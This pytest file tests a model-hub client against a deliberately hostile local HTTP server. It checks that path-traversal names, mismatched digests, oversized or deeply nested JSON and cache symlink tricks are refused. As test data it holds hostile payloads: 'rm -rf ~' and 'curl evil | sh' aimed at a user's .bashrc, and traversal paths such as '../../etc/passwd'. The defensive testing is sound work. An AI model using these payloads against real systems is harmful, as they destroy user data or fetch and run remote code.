"""A hostile served hub cannot hurt its client (issue 9, "a hostile served hub writes anywhere").

The hub here is a real loopback HTTP server (``http.server``) answering the routes
:meth:`Hub.served` calls with lies: path tricks in names and file paths, digests and
bytes that do not match, oversized and absurdly nested JSON, answers about another
model, and symlinks planted in the cache. Each test asserts the one-line refusal,
that nothing outside the cache root changed (the whole ``tmp_path`` tree, with a
``home/.bashrc`` sentinel beside the cache), and that files verified earlier are
unchanged.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from click.testing import CliRunner

from sentenialx.hub.cache import BlobCache
from sentenialx.hub.errors import HubError, IntegrityError, InvalidInput, StoreUnavailable, TooLarge
from sentenialx.hub.hub import Hub
from sentenialx.hub.manifest import FileEntry, Manifest

API = "/api/v1"
GOOD = b"verified weights " * 100
BASHRC = b"export PATH=/usr/bin  # the user's own file\n"


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def version_doc(model: str = "distill", version: str = "1.0.0", *, stem: str | None = None,
                layout: str = "file", files: dict[str, bytes] | None = None,
                digest: str | None = None, **extra: Any) -> dict[str, Any]:
    """A version record as the real server sends it (digest computed unless given)."""
    stem = stem if stem is not None else f"student_v{version}"
    files = files if files is not None else {f"{stem}.onnx": GOOD}
    entries = [{"path": p, "size": len(b), "sha256": _sha(b), "role": "weights"}
               for p, b in files.items()]
    try:
        real = Manifest(tuple(FileEntry.from_dict(e) for e in entries)).digest
    except HubError:
        real = "0" * 64  # the entries themselves are invalid; the client refuses them first
    d = {"model": model, "version": version, "digest": digest or real, "revoked": False,
         "revoke_reason": None, "layout": layout, "stem": stem,
         "size": sum(len(b) for b in files.values()), "created_at": "2024-01-01T00:00:00Z",
         "created_by": "token:ci", "metadata": {}, "lineage": {}, "files": entries,
         "aliases": [], "ref": f"{model}@{version}"}
    d.update(extra)
    return d


class HostileHub(ThreadingHTTPServer):
    """Answers JSON routes from ``routes`` and file downloads from ``files`` (by path).

    A route's value is an object (sent as JSON), raw ``bytes``, or a callable that
    writes the whole response itself.
    """

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.routes: dict[str, Any] = {}
        self.files: dict[str, bytes] = {}
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        self.key = f"127.0.0.1_{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def serve(self, doc: dict[str, Any], files: dict[str, bytes] | None = None) -> None:
        """Answer ``resolve`` with ``doc`` and serve ``files`` (default: the doc's own bytes)."""
        self.routes[f"{API}/resolve"] = doc
        if files is not None:
            self.files = files


class _Handler(BaseHTTPRequestHandler):
    server: HostileHub

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _send(self, status: int, body: bytes, ctype: str = "application/json") -> None:
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        path = urlsplit(self.path).path
        if "/files/" in path:
            data = self.server.files.get(unquote(path.split("/files/", 1)[1]))
            if data is not None:
                self._send(200, data, "application/octet-stream")
                return
        elif path in self.server.routes:
            answer = self.server.routes[path]
            if callable(answer):
                answer(self)
            else:
                self._send(200, answer if isinstance(answer, bytes) else json.dumps(answer).encode())
            return
        self._send(404, json.dumps({"error": {"type": "NotFound",
                                              "message": f"nothing at {path}"}}).encode())


@pytest.fixture
def home(tmp_path: Path) -> Path:
    h = tmp_path / "home"
    h.mkdir()
    (h / ".bashrc").write_bytes(BASHRC)
    (h / "notes").mkdir()
    (h / "notes" / "todo.txt").write_text("keep me")
    return h


@pytest.fixture
def cache(home: Path) -> Path:
    return home / ".cache" / "sentenialx"


@pytest.fixture
def evil() -> Iterator[HostileHub]:
    srv = HostileHub()
    yield srv
    srv.shutdown()
    srv.server_close()


def snapshot(top: Path, *, skip: Path) -> dict[str, Any]:
    """Every file, folder and symlink under ``top`` except ``skip``, with contents."""
    out: dict[str, Any] = {}
    for dirpath, dirs, files in os.walk(top, followlinks=False):
        d = Path(dirpath)
        if d == skip or skip in d.parents:
            dirs[:] = []
            continue
        for name in dirs + files:
            p = d / name
            if p == skip:
                continue
            rel = str(p.relative_to(top))
            if p.is_symlink():
                out[rel] = ("link", os.readlink(p))
            elif p.is_dir():
                out[rel] = ("dir",)
            else:
                out[rel] = ("file", p.read_bytes(), p.stat().st_mode)
    return out


def verified_files(cache: Path) -> dict[str, bytes]:
    """The bytes of every regular file the client cached (blobs and materialised files)."""
    return {str(p.relative_to(cache)): p.read_bytes() for p in cache.rglob("*")
            if p.is_file() and not p.is_symlink() and "/responses/" not in str(p)
            and not p.name.endswith((".lock", ".verified"))}


@pytest.fixture
def primed(evil: HostileHub, cache: Path, tmp_path: Path) -> Callable[[], None]:
    """A client that verified distill@1.0.0 from the server while it was honest.

    Returns a check that nothing outside the cache changed and the verified files still hold.
    """
    good = version_doc()
    evil.serve(good, {"student_v1.0.0.onnx": GOOD})
    with Hub.served(evil.url, cache_dir=cache) as r:
        p = r.path("distill")
    assert p.read_bytes() == GOOD
    before_outside = snapshot(tmp_path, skip=cache)
    before_cached = verified_files(cache)
    assert GOOD in before_cached.values()

    def unchanged() -> None:
        assert (tmp_path / "home" / ".bashrc").read_bytes() == BASHRC
        assert snapshot(tmp_path, skip=cache) == before_outside
        after = verified_files(cache)
        for rel, data in before_cached.items():
            assert after.get(rel) == data, rel

    return unchanged


def _refused(exc: pytest.ExceptionInfo[BaseException], *phrases: str) -> None:
    msg = str(exc.value)
    assert "\n" not in msg, msg
    for phrase in phrases:
        assert phrase in msg, msg


# -- names and paths in a version record ------------------------------------------------

TRICKS = [
    pytest.param(version_doc(model="../../../home"), "invalid model name '../../../home'",
                 id="dotdot-model"),
    pytest.param(version_doc(model="/tmp/evil"), "invalid model name '/tmp/evil'",
                 id="absolute-model"),
    pytest.param(version_doc(files={"../../.bashrc": b"rm -rf ~\n"}),
                 "invalid file path '../../.bashrc'", id="dotdot-path"),
    pytest.param(version_doc(files={"/home/.bashrc": b"rm -rf ~\n"}),
                 "invalid file path '/home/.bashrc'", id="absolute-path"),
    pytest.param(version_doc(files={"student_v1.0.0/../../x": b"x"}),
                 "invalid file path", id="dotdot-inside"),
    pytest.param(version_doc(stem="../evil", files={"../evil.onnx": GOOD}),
                 "invalid stem '../evil'", id="dotdot-stem"),
    pytest.param(version_doc(stem="a/b", files={"a/b.onnx": GOOD}), "invalid stem 'a/b'",
                 id="slash-stem"),
    pytest.param(version_doc(version="1.1.0", stem="student_v1.0.0",
                             files={"student_v1.0.0.onnx": b"not the verified 1.0.0"}),
                 "invalid stem 'student_v1.0.0': the stem of version 1.1.0 ends with '_v1.1.0'",
                 id="another-versions-stem"),
    pytest.param(version_doc(files={"other_v1.0.0.onnx": GOOD}),
                 "outside the version's stem 'student_v1.0.0'", id="other-stem"),
    pytest.param(version_doc(layout="dir", stem="net_v1.0.0",
                             files={"net_v1.0.0/w.bin": GOOD, "lora_v2.0.0/w.bin": b"x"}),
                 "invalid file path 'lora_v2.0.0/w.bin'", id="dir-escapes-stem"),
    pytest.param(version_doc(layout="dir", stem="net_v1.0.0",
                             files={"net_v1.0.0/a": GOOD, "net_v1.0.0/a/b": b"x"}),
                 "inside another file", id="file-and-folder"),
    pytest.param(version_doc(files={f"student_v1.0.0_{'a' * 300}": GOOD}),
                 "over 255 bytes", id="long-component"),
    pytest.param(version_doc(version="../1.0.0"), "invalid version '../1.0.0'",
                 id="dotdot-version"),
    pytest.param(version_doc(version="9" * 5000 + ".0.0"), "invalid version", id="huge-version"),
    pytest.param(version_doc(layout="tree"), "invalid layout 'tree'", id="bad-layout"),
    pytest.param(dict(version_doc(), files=[{"path": "student_v1.0.0.onnx", "size": -1,
                                             "sha256": _sha(GOOD)}]),
                 "invalid size of 'student_v1.0.0.onnx'", id="negative-size"),
    pytest.param(dict(version_doc(), files=[{"path": "student_v1.0.0.onnx", "size": 3,
                                             "sha256": "ABC"}]),
                 "invalid sha256", id="bad-sha"),
    pytest.param(dict(version_doc(), files=[{"path": "student_v1.0.0.onnx", "size": 3,
                                             "sha256": _sha(b"abc"), "role": "rootkit"}]),
                 "invalid role", id="bad-role"),
    pytest.param(version_doc(metadata={"metrics": {"accuracy": 10**30}}),
                 "holds an integer beyond ±2**63", id="huge-int-metric"),
    pytest.param(version_doc(metadata={"deep": json.loads("[" * 50 + "]" * 50)}),
                 "nested deeper than 32", id="deep-metadata"),
    pytest.param(version_doc(lineage=["not", "an", "object"]), "invalid lineage",
                 id="lineage-not-object"),
]


@pytest.mark.parametrize(("doc", "phrase"), TRICKS)
def test_a_hostile_version_record_is_refused_and_writes_nothing(
        evil: HostileHub, cache: Path, primed: Callable[[], None], doc: dict[str, Any],
        phrase: str) -> None:
    evil.serve(doc, {f["path"]: b"rm -rf ~\n" for f in doc["files"]
                     if isinstance(f.get("path"), str)})
    with Hub.served(evil.url, cache_dir=cache) as r:
        with pytest.raises(InvalidInput) as exc:
            r.path("distill")
        _refused(exc, f"served hub {evil.url} sent an", phrase)
        with pytest.raises(InvalidInput):
            r.open_bytes("distill")
    primed()
    # The refused answer is not remembered for offline use: offline, the last good one wins.
    evil.shutdown()
    evil.server_close()
    with Hub.served(evil.url, cache_dir=cache, retries=0) as offline:
        assert offline.path("distill").read_bytes() == GOOD


def test_a_version_of_another_model_is_refused(evil: HostileHub, cache: Path,
                                               primed: Callable[[], None]) -> None:
    other = version_doc(model="other", stem="student_v1.0.0")
    evil.serve(other, {"student_v1.0.0.onnx": b"other model's bytes"})
    with Hub.served(evil.url, cache_dir=cache) as r:
        with pytest.raises(InvalidInput) as exc:
            r.resolve("distill@production")
        _refused(exc, "answered with a version of 'other' when 'distill' was asked for")
        evil.serve(version_doc(version="2.0.0"))
        with pytest.raises(InvalidInput) as exc:
            r.resolve("distill@1.0.0")
        _refused(exc, "answered with distill@2.0.0 when distill@1.0.0 was asked for")
    primed()


def test_a_digest_that_does_not_match_the_files_is_refused(
        evil: HostileHub, cache: Path, primed: Callable[[], None]) -> None:
    evil.serve(version_doc(digest="ab" * 32))
    with Hub.served(evil.url, cache_dir=cache) as r:
        with pytest.raises(IntegrityError) as exc:
            r.path("distill")
    _refused(exc, f"served hub {evil.url} sent distill@1.0.0 with digest abababababab",
             "its files hash to")
    primed()


def test_bytes_that_do_not_match_the_sha256_are_never_cached(
        evil: HostileHub, cache: Path, primed: Callable[[], None]) -> None:
    claimed = b"the weights the manifest promises"
    doc = version_doc(version="1.1.0", files={"student_v1.1.0.onnx": claimed})
    evil.serve(doc, {"student_v1.1.0.onnx": b"X" * len(claimed)})
    with Hub.served(evil.url, cache_dir=cache) as r:
        with pytest.raises(IntegrityError) as exc:
            r.path("distill")
        _refused(exc, "student_v1.1.0.onnx: sha256 mismatch")
        # Longer than promised: refused as soon as the extra bytes arrive.
        evil.files["student_v1.1.0.onnx"] = claimed + b"trailing payload"
        with pytest.raises(IntegrityError) as exc:
            r.open_bytes("distill")
        _refused(exc, "student_v1.1.0.onnx")
    sha = _sha(claimed)
    assert [p.name for p in cache.rglob(sha + "*") if not p.name.endswith(".lock")] == []
    assert not (cache / "hubs" / evil.key / "files" / "distill" / "student_v1.1.0.onnx").exists()
    primed()


# -- bounded answers ---------------------------------------------------------------------

def test_an_oversized_answer_is_not_read(evil: HostileHub, cache: Path,
                                         primed: Callable[[], None]) -> None:
    sent: list[int] = []

    def endless(h: _Handler) -> None:
        # No Content-Length: the client must stop reading on its own.
        h.send_response(200)
        h.send_header("Content-Type", "application/json")
        h.end_headers()
        chunk = b"[" + b"0," * (512 * 1024)
        try:
            for _ in range(64):  # 64 MiB at most, far past the client's bound below
                h.wfile.write(chunk)
                sent.append(len(chunk))
        except OSError:
            pass

    evil.routes[f"{API}/resolve"] = endless
    with Hub.served(evil.url, cache_dir=cache, max_response_bytes=1024 * 1024) as r:
        with pytest.raises(TooLarge) as exc:
            r.resolve("distill")
    _refused(exc, f"served hub {evil.url} sent an answer over 1048576 bytes")

    def announced(h: _Handler) -> None:
        h.send_response(200)
        h.send_header("Content-Type", "application/json")
        h.send_header("Content-Length", str(10 * 1024**3))
        h.end_headers()
        h.wfile.write(b"[")

    evil.routes[f"{API}/resolve"] = announced
    with Hub.served(evil.url, cache_dir=cache) as r:  # the default bound
        with pytest.raises(TooLarge) as exc:
            r.resolve("distill")
    _refused(exc, "announced an answer of 10737418240 bytes")
    primed()


def test_absurdly_nested_json_is_refused(evil: HostileHub, cache: Path,
                                         primed: Callable[[], None]) -> None:
    evil.routes[f"{API}/resolve"] = b"[" * 200_000 + b"]" * 200_000
    with Hub.served(evil.url, cache_dir=cache) as r:
        with pytest.raises(InvalidInput) as exc:
            r.resolve("distill")
        _refused(exc, "not JSON this client reads")
        evil.routes[f"{API}/resolve"] = b'{"model": "distill", "metadata": {"n": 1%s}}' % (
            b"0" * 5000)
        with pytest.raises(InvalidInput) as exc:
            r.resolve("distill")
        _refused(exc, "not JSON this client reads")
    primed()


# -- listings ----------------------------------------------------------------------------

def test_every_listing_answer_is_validated(evil: HostileHub, cache: Path,
                                           primed: Callable[[], None]) -> None:
    evil.routes[f"{API}/models"] = [{"model": "../../x", "versions": 1, "latest": "1.0.0",
                                     "aliases": {}}]
    evil.routes[f"{API}/models/distill/versions"] = [version_doc(), version_doc(model="other")]
    evil.routes[f"{API}/models/distill/aliases"] = [
        {"model": "distill", "alias": "../prod", "version": "1.0.0", "updated_at": "",
         "updated_by": ""}]
    evil.routes[f"{API}/models/distill/aliases/history"] = [
        {"id": 1, "model": "other", "alias": "production", "version": "1.0.0",
         "previous": None, "ts": "", "actor": ""}]
    evil.routes[f"{API}/events"] = [
        {"seq": 1, "ts": "", "kind": "register", "model": "/etc", "version": "1.0.0",
         "actor": "", "payload": {}, "prev": "0" * 64, "hash": "1" * 64}]
    evil.routes[f"{API}/state"] = {"generation": -5, "signed": None}
    with Hub.served(evil.url, cache_dir=cache) as r:
        checks: list[tuple[Callable[[], Any], str]] = [
            (r.models, "invalid model name '../../x'"),
            (lambda: r.versions("distill"), "answered with a version of 'other'"),
            (lambda: r.aliases("distill"), "invalid alias name '../prod'"),
            (lambda: r.alias_history("distill"), "answered about 'other' when 'distill'"),
            (r.events, "invalid model name '/etc'"),
            (r.generation, "invalid generation -5"),
        ]
        for call, phrase in checks:
            with pytest.raises(InvalidInput) as exc:
                call()
            _refused(exc, f"served hub {evil.url} ", phrase)
    primed()


# -- symlinks planted in the cache -------------------------------------------------------

def test_a_symlinked_folder_in_the_cache_does_not_redirect_writes(
        evil: HostileHub, cache: Path, home: Path, primed: Callable[[], None]) -> None:
    files = cache / "hubs" / evil.key / "files"
    evil.serve(version_doc(model="lora", stem="x_v1.0.0"), {"x_v1.0.0.onnx": GOOD})
    (files / "lora").symlink_to(home)  # would put x_v1.0.0.onnx in ~
    with Hub.served(evil.url, cache_dir=cache) as r:
        with pytest.raises(InvalidInput) as exc:
            r.path("lora")
    _refused(exc, "cache path 'lora/x_v1.0.0.onnx' resolves outside the cache")
    assert not (home / "x_v1.0.0.onnx").exists()
    (files / "lora").unlink()
    primed()


def test_symlinked_files_in_the_cache_are_replaced_never_followed(
        evil: HostileHub, cache: Path, home: Path, primed: Callable[[], None]) -> None:
    data = b"new weights " * 50
    sha = _sha(data)
    blobs = BlobCache(cache / "blobs")
    evil.serve(version_doc(version="1.2.0", files={"student_v1.2.0.onnx": data}),
               {"student_v1.2.0.onnx": data})
    blob = blobs.path(sha)
    blob.parent.mkdir(parents=True, exist_ok=True)
    blob.symlink_to(home / ".bashrc")  # a "cached blob" that is the user's file
    target = cache / "hubs" / evil.key / "files" / "distill" / "student_v1.2.0.onnx"
    target.symlink_to(home / ".bashrc")  # a materialised file that points at it too
    with Hub.served(evil.url, cache_dir=cache) as r:
        p = r.path("distill")
        assert p == target and not p.is_symlink() and p.read_bytes() == data
        assert not blob.is_symlink() and blob.read_bytes() == data
        # A planted partial download is refused rather than appended to.
        evil.serve(version_doc(version="1.3.0", files={"student_v1.3.0.onnx": b"z" * 99}),
                   {"student_v1.3.0.onnx": b"z" * 99})
        partial = blobs.partial_path(_sha(b"z" * 99))
        partial.parent.mkdir(parents=True, exist_ok=True)
        partial.symlink_to(home / ".bashrc")
        with pytest.raises(StoreUnavailable) as exc:
            r.path("distill")
        _refused(exc, "a symlink there is refused")
    primed()


def test_responses_are_cached_under_a_hash_of_the_request(
        evil: HostileHub, cache: Path, home: Path, primed: Callable[[], None]) -> None:
    responses = cache / "hubs" / evil.key / "responses"
    names = sorted(p.name for p in responses.iterdir())
    assert names and all(len(n) == len("0" * 64 + ".json") for n in names)
    # A planted symlink at a response name is replaced by the next answer, not written through.
    for n in names:
        (responses / n).unlink()
        (responses / n).symlink_to(home / ".bashrc")
    with Hub.served(evil.url, cache_dir=cache) as r:
        assert r.resolve("distill").version == "1.0.0"
    assert not any(p.is_symlink() for p in responses.iterdir())
    primed()


def test_a_hub_url_cannot_name_a_folder_outside_the_cache(cache: Path, tmp_path: Path) -> None:
    r = Hub.served("http://..:80/", cache_dir=cache)
    assert r.hub_dir.parent == cache / "hubs" and r.hub_dir.name not in ("..", ".")
    r = Hub.served("http://user:secret@host:81/x/../../", cache_dir=cache)
    assert r.hub_dir.parent == cache / "hubs" and "secret" not in r.hub_dir.name


# -- the one cache, as the S3 read path uses it ------------------------------------------

def test_the_cache_admits_only_matching_bytes_and_evicts_least_recent(tmp_path: Path) -> None:
    c = BlobCache(tmp_path / "c", max_bytes=250)
    a, b, d = b"a" * 100, b"b" * 100, b"d" * 100
    pa = c.put(_sha(a), 100, io.BytesIO(a), name="a.bin")
    assert pa == tmp_path / "c" / "sha256" / _sha(a)[:2] / _sha(a)
    assert pa.read_bytes() == a and oct(pa.stat().st_mode & 0o777) == "0o444"
    with pytest.raises(IntegrityError) as exc:
        c.put(_sha(b), 100, io.BytesIO(b"B" * 100), name="b.bin")
    _refused(exc, "b.bin: sha256 mismatch")
    with pytest.raises(IntegrityError):
        c.put(_sha(b), 100, io.BytesIO(b + b"more"), name="b.bin")
    assert c.get(_sha(b), 100) is None
    assert sorted(p.name for p in (tmp_path / "c").rglob("*") if p.is_file()) == sorted(
        [_sha(a), _sha(a) + ".verified"])
    c.put(_sha(b), 100, io.BytesIO(b))
    assert c.get(_sha(a), 100) == pa  # a is now the most recently used
    c.put(_sha(d), 100, io.BytesIO(d))
    assert c.get(_sha(b), 100) is None and c.get(_sha(a), 100) == pa
    assert c.size() == 200
    # A blob changed behind the cache's back is dropped, not handed out.
    os.chmod(pa, 0o644)
    pa.write_bytes(b"A" * 100)
    assert c.get(_sha(a), 100) is None and not pa.exists()
    # folder() lays out hardlinks under validated names only.
    f = c.folder("f" * 64, {"w.bin": c.path(_sha(d))})
    assert (f / "w.bin").read_bytes() == d and os.path.samefile(f / "w.bin", c.path(_sha(d)))
    with pytest.raises(InvalidInput):
        c.folder("f" * 64, {"../../escape": c.path(_sha(d))})
    with pytest.raises(InvalidInput):
        c.folder("../x", {"w.bin": c.path(_sha(d))})
    with pytest.raises(InvalidInput):
        c.get("../../etc/passwd", 1)
    assert not (tmp_path / "escape").exists()


# -- through the CLI ---------------------------------------------------------------------

def test_models_path_over_http_refuses_a_hostile_path_with_one_line(
        evil: HostileHub, cache: Path, primed: Callable[[], None],
        monkeypatch: pytest.MonkeyPatch) -> None:
    from sentenialx.hub.cli import cli

    monkeypatch.setenv("SENTENIALX_CACHE", str(cache))
    evil.serve(version_doc(files={"../../../.bashrc": b"curl evil | sh\n"}),
               {"../../../.bashrc": b"curl evil | sh\n"})
    r = CliRunner().invoke(cli, ["models", "path", "distill", "--hub", evil.url])
    assert r.exit_code == 5, r.output
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1, r.stderr
    assert lines[0].startswith(f"error: served hub {evil.url} sent an invalid file path"
                               " '../../../.bashrc'")
    assert "Traceback" not in r.output
    primed()
